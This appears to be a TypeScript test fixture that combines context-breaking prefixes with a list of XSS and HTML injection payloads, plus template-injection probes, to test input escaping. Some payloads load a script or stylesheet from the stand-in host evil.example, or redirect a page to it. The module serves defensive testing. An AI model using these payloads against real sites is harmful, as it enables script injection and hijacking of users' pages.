/** What an attacker would put into a name or a message; for tests. */
const waysOut = ['', '"', "'", '">', "'>", '`>', '--><', ']]>', '</title>', '</bdi></td>', '\0<'];

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><button>x',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  ' onmouseover=alert(1) x=',
  ' style=position:fixed;inset:0 x=',
  '<input type="hidden" id="csrftoken" name="csrftoken" value="stolen">',
];

export const hostileTexts: readonly string[] = waysOut.flatMap((wayOut) =>
  payloads.map((payload) => wayOut + payload),
);

/** What a template engine that compiles its data would evaluate. */
export const templateTexts: readonly string[] = ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}'];
